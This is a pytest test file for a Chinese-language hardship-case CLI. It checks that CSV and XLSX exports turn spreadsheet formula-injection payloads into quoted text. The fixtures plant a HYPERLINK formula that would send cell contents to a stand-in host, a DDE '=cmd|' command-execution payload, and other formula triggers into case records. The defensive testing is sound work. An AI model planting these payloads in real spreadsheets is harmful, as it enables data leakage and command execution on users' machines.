"""Cells that stay text: the spreadsheet attacks of issue 10, item 4.

Names, units and notes that a spreadsheet would evaluate (`=HYPERLINK(...)`, `=cmd|...`,
`+1`, `-2`, `@SUM(A1)`, a leading tab or carriage return) arrive with the records. Every
csv and xlsx the tool writes (`export cases`, `report annual --format csv|xlsx`, `stats
--format csv`) writes them as text with one leading quote, never as a formula; numbers
stay numbers; and the tool's own export imports back as "unchanged".
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from hardship_cli.cells import TRIGGERS, csv_line, neutral, unquote
from tests.clirun import hardship
from tests.conftest import TODAY

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"click")'
CMD = "=cmd|' /C calc'!A0"
# (case file, the line the payload replaces the value of, the payload)
PLANTED = [
    ("HS-2025-0001", "  name", HYPERLINK),  # the worker's name
    ("HS-2025-0001", "  unit", CMD),
    ("HS-2025-0001", "  - name", "+1"),  # a member's name
    ("HS-2025-0001", "    occupation", "-2"),
    ("HS-2025-0001", "notes", "@SUM(A1)"),
    ("HS-2025-0001", "housing", "'=already quoted"),
    # A tab arrives only in prose (notes): a record refuses it, and a carriage return
    # anywhere, as a control character (issue 11); the rule still quotes both (above).
    ("HS-2025-0002", "notes", "\tx"),
]
PAYLOADS = [payload for _, _, payload in PLANTED]


def plant(root: Path) -> None:
    """Put each payload in place of the first value of its key, as a YAML double-quoted
    string (a JSON string is one)."""
    for case, key, payload in PLANTED:
        path = root / "cases" / f"{case}.yaml"
        line = f"{key}: {json.dumps(payload, ensure_ascii=False)}"
        content, count = re.subn(
            rf"(?m)^{re.escape(key)}: .*$", lambda _m, line=line: line, path.read_text(), count=1
        )
        assert count == 1, (case, key)
        path.write_text(content)


@pytest.fixture
def planted(demo_copy: Path) -> Path:
    plant(demo_copy)
    result = hardship("--root", demo_copy, "export", "cases", "-o", demo_copy / "check.csv",
                      "--full", "--all")
    assert result.code == 0, result.err  # the planted records load
    return demo_copy


# ---------------------------------------------------------------------------------------
# The rule


@pytest.mark.parametrize("payload", [*PAYLOADS, "-", "=", "@", "\t", "\r", "''+x"])
def test_text_a_spreadsheet_would_evaluate_gets_one_quote(payload):
    assert neutral(payload) == "'" + payload
    assert unquote(neutral(payload)) == payload


@pytest.mark.parametrize("text", ["张三", "'quoted", "1,800.00", "HS-2026-0001", "a=b", ""])
def test_harmless_text_is_left_as_it_is(text):
    assert neutral(text) == text
    assert unquote(text) == text


@pytest.mark.parametrize("number", [-2, 0, Decimal("-1200.50"), Decimal("3250.00"), -0.5])
def test_numbers_stay_numbers_even_negative(number):
    assert neutral(number) is number


@given(st.text())
def test_unquote_takes_off_exactly_what_neutral_added(text):
    written = neutral(text)
    assert not written.startswith(TRIGGERS)
    assert unquote(written) == text


@given(st.lists(st.text(alphabet=st.sampled_from('ab,"\n\r =张')), max_size=4))
def test_csv_lines_read_back_as_written(fields):
    line = csv_line(fields)
    assert list(csv.reader(io.StringIO(line))) == [fields]
    if not any("\r" in f for f in fields):
        same = io.StringIO()
        csv.writer(same, lineterminator="\n").writerow(fields)
        assert line == same.getvalue()  # what the writers wrote before, byte for byte


def test_a_carriage_return_inside_a_field_is_quoted():
    # Python 3.11's csv.writer, ending lines in \n, writes this field bare; a reader then
    # fails with "new-line character seen in unquoted field".
    assert csv_line(["'\rx", "a"]) == '"\'\rx",a\n'


# ---------------------------------------------------------------------------------------
# export cases


def no_formulas(path: Path) -> None:
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name) and b"<f " not in book.read(name), name


def test_export_cases_xlsx_writes_text_cells_not_formulas(planted, tmp_path):
    out = tmp_path / "sheet.xlsx"
    assert hardship("--root", planted, "export", "cases", "-o", out, "--full").code == 0
    no_formulas(out)
    book = openpyxl.load_workbook(out)
    cells = {c.value: c for ws in book.worksheets for row in ws.iter_rows() for c in row}
    for payload in PAYLOADS:
        cell = cells["'" + payload]
        assert cell.data_type == "s", payload
    assert not [v for v in cells if isinstance(v, str) and v.startswith(TRIGGERS)]
    main = book["困难职工"]
    # the headings under whose and when (unit, period, records, date) and a blank row
    headings = [c.value for c in main[6]]
    income = [row[headings.index("家庭月收入")] for row in main.iter_rows(min_row=7)]
    assert all(c.data_type == "n" and isinstance(c.value, (int, float)) for c in income)
    members = book["家庭成员"]
    assert all(row[5].data_type == "n" for row in members.iter_rows(min_row=7))


def test_export_cases_csv_quotes_the_fields(planted, tmp_path):
    out = tmp_path / "sheet.csv"
    assert hardship("--root", planted, "export", "cases", "-o", out, "--full").code == 0
    text = out.read_bytes().decode("utf-8-sig")  # as written: a \r stays a \r
    rows = list(csv.reader(io.StringIO(text)))
    fields = [f for row in rows for f in row]
    for payload in PAYLOADS:
        assert "'" + payload in fields, payload
    assert not [f for f in fields if f.startswith(TRIGGERS)]
    assert f"'{HYPERLINK.replace(chr(34), chr(34) * 2)}" in text  # the csv line itself
    headings = rows[5]  # under whose and when (unit, period, records, date) and a blank row
    first = next(row for row in rows[6:] if row[headings.index("家庭月收入")] == "3250.00")
    assert first[headings.index("姓名")] == "'" + HYPERLINK


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
@pytest.mark.parametrize("full", [True, False])
def test_export_then_import_is_unchanged_row_by_row(planted, tmp_path, suffix, full):
    out = tmp_path / f"sheet.{suffix}"
    args = ["--root", planted, "export", "cases", "-o", out, *(["--full"] if full else [])]
    assert hardship(*args).code == 0
    result = hardship("--root", planted, "import", "cases", out, "--as", "李明", "--dry-run",
                      "--format", "json")
    assert result.code == 0, result.out + result.err
    rows = json.loads(result.out)
    assert len(rows) > 20
    assert [r for r in rows if r["action"] != "unchanged"] == []


# ---------------------------------------------------------------------------------------
# report annual and stats


def annual(root: Path, *args: str | Path):
    return hardship("--root", root, "report", "annual", "--year", "2026", "--lang", "en",
                    "--today", str(TODAY), *args)


def test_annual_csv_quotes_a_unit_that_would_run(planted):
    result = annual(planted, "--format", "csv")
    assert result.code == 0, result.err
    fields = [f for row in csv.reader(io.StringIO(result.out)) for f in row]
    assert "'" + CMD in fields
    assert not [f for f in fields if f.startswith(("=", "@", "\t", "\r"))]
    # Our own numbers keep their sign: a change from last year reads +3 or -3.
    assert not [f for f in fields if f.startswith(("+", "-")) and not re.fullmatch(
        r"[+-][0-9]+(\.[0-9]+)?", f)]


def test_annual_xlsx_has_no_formula_cell(planted, tmp_path):
    out = tmp_path / "annual.xlsx"
    result = annual(planted, "-o", out)
    assert result.code == 0, result.err
    no_formulas(out)
    book = openpyxl.load_workbook(out)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    units = [c for c in cells if c.value == "'" + CMD]
    assert units and all(c.data_type == "s" for c in units)
    assert not [c for c in cells if isinstance(c.value, str) and c.value.startswith(TRIGGERS)]
    assert any(c.data_type == "n" and isinstance(c.value, (int, float)) for c in cells)


def test_stats_csv_quotes_a_unit_that_would_run(planted):
    result = hardship("--root", planted, "stats", "--of", "cases", "--by", "unit",
                      "--format", "csv", "--today", str(TODAY))
    assert result.code == 0, result.err
    lines = result.out.splitlines()
    assert any(line.startswith(f"\"'{CMD}\"") or line.startswith(f"'{CMD}") for line in lines)
    assert not [line for line in lines if line.startswith(TRIGGERS)]
    rows = list(csv.reader(io.StringIO(result.out)))
    assert rows[-1][0] == "total" and rows[-1][1].isdigit()
